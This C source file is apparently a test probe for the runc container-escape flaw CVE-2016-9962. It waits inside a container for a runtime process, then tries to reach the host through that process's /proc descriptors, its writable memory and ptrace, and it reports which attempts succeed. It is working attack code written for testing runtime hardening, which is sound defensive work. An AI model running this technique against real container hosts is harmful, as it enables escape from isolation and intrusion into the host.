/*
 * stalk NAME - waits inside a container for a process of the runtime on its way
 * in (CVE-2016-9962): by its descriptors, through its memory or by ptrace(2),
 * the host is reached. It must not be dumpable: prctl(2) PR_SET_DUMPABLE, and
 * ptrace(2) on access modes.
 *
 * Of the first that it meets it tells all answers, of the others only what
 * worked: on its way in a process changes, and one moment is enough.
 */
#include "attack.h"

#include <sys/ptrace.h>
#include <sys/wait.h>

static bool is_called(int pid, const char *name)
{
    char path[64], comm[64] = {0};
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    ssize_t n = read(fd, comm, sizeof comm - 1);
    close(fd);
    return n > 0 && strncmp(comm, name, strlen(name)) == 0;
}

struct prey {
    int pid;
    const char *name;
    bool is_first;
};

/* Reached, and before it became another program? */
static void answer(const struct prey *prey, const char *what, int result)
{
    if (result >= 0 && !is_called(prey->pid, prey->name)) {
        close(result);
        errno = ESRCH;
        result = -1;
    }
    if (prey->is_first || result >= 0)
        attack_answer(what, result);
}

static void attack(const struct prey *prey)
{
    static const struct {
        const char *file;
        int flags;
    } files[] = {
        {"fd/0", O_RDONLY},
        {"root", O_RDONLY},
        {"exe",  O_RDONLY},
        {"mem",  O_RDWR  },
    };
    char path[64];
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", prey->pid, files[i].file);
        answer(prey, files[i].file, open(path, files[i].flags));
    }
    long r = ptrace(PTRACE_SEIZE, prey->pid, NULL, NULL);
    answer(prey, "ptrace", r < 0 ? -1 : open("/", O_RDONLY));
    if (r == 0) { /* only who has stopped can be let go */
        ptrace(PTRACE_INTERRUPT, prey->pid, NULL, NULL);
        waitpid(prey->pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, prey->pid, NULL, NULL);
    }
}

/* Numbers are given out in order, so the next one is near ours. */
int main(int argc, char **argv)
{
    bool is_first = true;
    while (argc == 2) {
        for (int pid = 2; pid < 400; pid++) {
            if (!is_called(pid, argv[1]))
                continue;
            attack(&(struct prey){pid, argv[1], is_first});
            is_first = false;
        }
        usleep(500); /* on one processor the prey has to have its turn, too */
    }
    return 2;
}
